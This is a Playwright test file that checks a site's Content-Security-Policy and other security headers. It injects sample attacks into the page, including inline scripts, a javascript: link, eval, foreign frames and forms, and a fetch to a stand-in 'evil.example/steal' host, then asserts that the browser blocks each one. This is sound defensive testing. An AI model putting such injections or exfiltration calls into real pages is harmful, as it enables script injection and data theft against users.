// What a browser refuses on our behalf: whatever gets into a page must not run, load or send.
import { test as base, type Page } from '@playwright/test'
import { expect, routes, test } from '../world.ts'

/** Directives that the browser said were broken by what `act` did in the page. */
async function refusedBy(page: Page, act: () => void): Promise<string[]> {
  await page.evaluate(() => {
    const refused: string[] = []
    document.addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective))
    Object.assign(window, { refused })
  })
  await page.evaluate(act)
  await expect
    .poll(() => page.evaluate(() => (window as never as { refused: string[] }).refused))
    .not.toEqual([])
  return page.evaluate(() => (window as never as { refused: string[] }).refused)
}

const wasOwned = (page: Page) => page.evaluate(() => 'owned' in window)

const attacks: [string, string, () => void][] = [
  [
    'an inline script',
    'script-src-elem',
    () => {
      const script = document.createElement('script')
      script.textContent = 'window.owned = true'
      document.body.append(script)
    }
  ],
  [
    'an inline handler',
    'script-src-attr',
    () => {
      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.owned = true">')
    }
  ],
  [
    'a link that is a script',
    'script-src-elem',
    () => {
      const link = document.createElement('a')
      link.href = 'javascript:window.owned=true'
      document.body.append(link)
      link.click()
    }
  ],
  [
    'a script of another site',
    'script-src-elem',
    () => {
      const script = document.createElement('script')
      script.src = 'https://evil.example/x.js'
      document.body.append(script)
    }
  ],
  [
    'text that is run',
    'script-src',
    () => {
      // Later: what the test itself runs is exempt for as long as it runs.
      setTimeout(() => {
        // biome-ignore lint/security/noGlobalEval: the test is that it does not run.
        window.eval('window.owned = true')
      })
    }
  ],
  [
    'a frame of another site',
    'frame-src',
    () => {
      const frame = document.createElement('iframe')
      frame.src = 'https://evil.example/'
      document.body.append(frame)
    }
  ],
  [
    'another base for all links',
    'base-uri',
    () => {
      const other = document.createElement('base')
      other.href = 'https://evil.example/'
      document.head.append(other)
    }
  ],
  [
    'a style attribute',
    'style-src-attr',
    () => {
      document.body.insertAdjacentHTML('beforeend', '<p style="position:fixed">x</p>')
    }
  ],
  [
    'a word to another site',
    'connect-src',
    () => {
      void fetch('https://evil.example/steal').catch(() => undefined)
    }
  ],
  [
    'a form that goes elsewhere',
    'form-action',
    () => {
      const form = document.createElement('form')
      form.action = 'https://evil.example/'
      document.body.append(form)
      form.submit()
    }
  ]
]

for (const [name, directive, act] of attacks) {
  base(`${name} gets nowhere`, async ({ page }) => {
    await page.goto('/')
    expect(await refusedBy(page, act)).toContain(directive)
    expect(await wasOwned(page)).toBe(false)
    expect(new URL(page.url()).pathname).toBe('/')
  })
}

base('no other site can show us in a frame', async ({ page, baseURL }) => {
  await page.route('https://evil.example/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/"></iframe>` })
  )
  await page.goto('https://evil.example/')
  await expect.poll(() => page.frames().at(1)?.url()).toMatch(/^chrome-error:/)
})

test('every kind of page loads in both themes without a word from the policy, and from our own site only', async ({
  page,
  baseURL
}) => {
  const foreign: string[] = []
  page.on('request', (request) => {
    if (!request.url().startsWith(`${baseURL}/`) && !request.url().startsWith('data:'))
      foreign.push(request.url())
  })
  for (const colorScheme of ['light', 'dark'] as const) {
    await page.emulateMedia({ colorScheme })
    for (const route of routes) {
      const response = await page.goto(route, { waitUntil: 'load' })
      const headers = response?.headers() ?? {}
      expect(headers['content-security-policy'], route).toContain(
        "default-src 'self'; script-src 'self' 'sha256-"
      )
      expect(headers['x-content-type-options'], route).toBe('nosniff')
      expect(headers['referrer-policy'], route).toBe('strict-origin-when-cross-origin')
      expect(headers['strict-transport-security'], route).toContain('includeSubDomains')
      expect(headers['cache-control'], route).toBe('public, max-age=0, must-revalidate')
    }
  }
  expect(foreign).toEqual([])
})
